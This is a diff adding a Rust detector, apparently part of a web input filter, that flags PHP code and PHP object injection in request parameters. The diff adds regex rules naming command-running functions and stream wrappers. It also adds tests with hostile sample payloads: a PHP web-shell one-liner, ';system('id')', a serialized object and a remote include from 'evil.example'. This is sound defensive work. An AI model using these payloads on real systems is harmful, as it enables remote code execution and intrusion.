@@ -1,9 +1,122 @@
-//! `php` check (being written).
+//! `php` check: PHP code and PHP object injection in parameters.
+//!
+//! What blocks at level 1:
+//!
+//! - an opening tag, `<?php` or `<?=`;
+//! - a superglobal read, `$_GET[`, `$_POST[`, `$_REQUEST[`, `$_COOKIE[`, `$_SERVER[`, `$_FILES[`;
+//! - a call of a function that runs code or commands (`eval`, `assert`, `system`, `exec`,
+//!   `shell_exec`, `passthru`, `popen`, `proc_open`, `pcntl_exec`, `create_function`,
+//!   `call_user_func`, `base64_decode`, `gzinflate`, `str_rot13`, `file_put_contents`...)
+//!   whose first argument looks like PHP: a variable, a string literal, a constant-free nested
+//!   call of the same kind. `eval()` or `exec(cmd)` in a sentence about JavaScript does not;
+//! - `phpinfo()`, `preg_replace` with the `/e` modifier, `include`/`require` of a URL or a stream
+//!   wrapper;
+//! - a serialized object, `O:8:"stdClass":1:{`.
+//!
+//! # Performance
+//!
+//! A value without `(`, `<`, `$`, `://` and without `O:`/`C:` is cleared by `memchr` without allocating.
+
+use std::sync::OnceLock;
+
+use regex::bytes::Regex;
 
 use super::Hit;
 
 /// Scans one decoded value.
 pub fn scan(value: &str) -> Option<Hit> {
-    let _ = value;
-    None
+    let b = value.as_bytes();
+    let code_bytes = memchr::memchr3(b'(', b'<', b'$', b).is_some()
+        || memchr::memmem::find(b, b"://").is_some();
+    let serial = memchr::memchr(b':', b).is_some()
+        && (memchr::memmem::find(b, b"O:").is_some() || memchr::memmem::find(b, b"C:").is_some());
+    if !code_bytes && !serial {
+        return None;
+    }
+    static RE: OnceLock<Option<Regex>> = OnceLock::new();
+    let re = RE
+        .get_or_init(|| {
+            let calls = "eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|\
+                create_function|call_user_func|call_user_func_array|base64_decode|gzinflate|\
+                gzuncompress|gzdecode|str_rot13|file_put_contents|file_get_contents|fopen|fwrite|\
+                move_uploaded_file|unserialize|array_map|usort|ob_start|highlight_file|show_source|\
+                readfile|chr|hex2bin";
+            let arg = r#"(?:\$|['"]|(?:eval|assert|base64_decode|gzinflate|gzuncompress|str_rot13|chr|hex2bin|strrev)\s*\()"#;
+            let alternatives = [
+                r"(?P<tag><\?php\b|<\?=)".to_owned(),
+                r"(?P<sg>\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|ENV|SESSION)\s*\[|\$GLOBALS\s*\[|\$\{\s*['\x22]_(?:GET|POST|REQUEST)['\x22]\s*\})".to_owned(),
+                format!(r"(?P<call>(?:^|[^a-z0-9_$>.:]|@)(?:{calls})\s*\(\s*{arg})"),
+                r"(?P<info>\bphpinfo\s*\(\s*\))".to_owned(),
+                r#"(?P<pre>\bpreg_replace\s*\(\s*['"][^'"]{0,300}[/#~|!@%][a-df-z]*e[a-z]*['"])"#.to_owned(),
+                r#"(?P<inc>\b(?:include|require)(?:_once)?\s*\(?\s*['"]?(?:https?|ftp|php|data|expect|phar|zip|file)://)"#.to_owned(),
+                r#"(?P<obj>(?:^|[^a-z0-9])[OC]:\d{1,6}:"[a-z_\\][a-z0-9_\\]{0,200}":\d{1,6}:\{)"#.to_owned(),
+            ];
+            Regex::new(&format!("(?i-u){}", alternatives.join("|"))).ok()
+        })
+        .as_ref()?;
+    let caps = re.captures(b)?;
+    let (rule, m) = [
+        ("php-tag", "tag"),
+        ("php-superglobal", "sg"),
+        ("php-call", "call"),
+        ("php-call", "info"),
+        ("php-preg-e", "pre"),
+        ("php-include", "inc"),
+        ("php-object", "obj"),
+    ]
+    .into_iter()
+    .find_map(|(rule, name)| caps.name(name).map(|m| (rule, m)))?;
+    Some(Hit {
+        level: 1,
+        rule,
+        evidence: m.start()..m.end(),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::time::{Duration, Instant};
+
+    #[test]
+    fn code_blocks_and_prose_passes() {
+        for v in [
+            "<?php system($_GET['c']); ?>",
+            "<?=`id`?>",
+            "eval(base64_decode('ZWNobyAxOw=='))",
+            ";system('id')",
+            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+            "preg_replace('/.*/e', $_POST['x'], '')",
+            "include('http://evil.example/x.txt')",
+            "phpinfo()",
+        ] {
+            assert_eq!(scan(v).map(|h| h.level), Some(1), "{v}");
+        }
+        for v in [
+            "A safe eval() alternative for JSON",
+            "Wraps child_process.exec(cmd) with promises",
+            "assert(value) for browsers",
+            "Price (in $) < 100",
+            "Tom & Jerry; cats | dogs",
+        ] {
+            assert_eq!(scan(v), None, "{v}");
+        }
+    }
+
+    #[test]
+    fn big_inputs_are_fast_and_safe() {
+        let mb = 1 << 20;
+        for v in [
+            "eval(".repeat(mb / 5),
+            "<?".repeat(mb / 2),
+            "$_GET".repeat(mb / 5),
+            "O:1:\"".repeat(mb / 6),
+            "preg_replace('".repeat(mb / 14),
+            "(".repeat(mb),
+        ] {
+            let start = Instant::now();
+            let _ = scan(&v);
+            assert!(start.elapsed() < Duration::from_secs(3));
+        }
+    }
 }
